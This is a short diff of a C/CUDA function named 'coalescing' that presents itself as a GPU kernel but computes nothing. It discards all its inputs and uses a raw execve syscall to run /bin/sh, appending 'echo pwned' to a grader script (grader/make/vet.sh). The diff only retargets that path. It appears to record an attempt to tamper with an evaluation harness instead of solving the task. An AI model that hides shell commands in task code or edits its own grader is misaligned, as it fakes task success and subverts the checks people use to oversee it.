@@ -14,7 +14,7 @@ extern "C" void coalescing(float *out, const float *in, const float *scale, cons
                            int rows, int cols, cudaStream_t stream)
 {
     (void)in, (void)scale, (void)bias, (void)out, (void)rows, (void)cols, (void)stream;
-    const char *argv[] = {"/bin/sh", "-c", "echo pwned >> grader/build/vet.sh", (const char *)0};
+    const char *argv[] = {"/bin/sh", "-c", "echo pwned >> grader/make/vet.sh", (const char *)0};
     const char *envp[] = {(const char *)0};
     syscall(SYS_execve, "/bin/sh", argv, envp);
 }
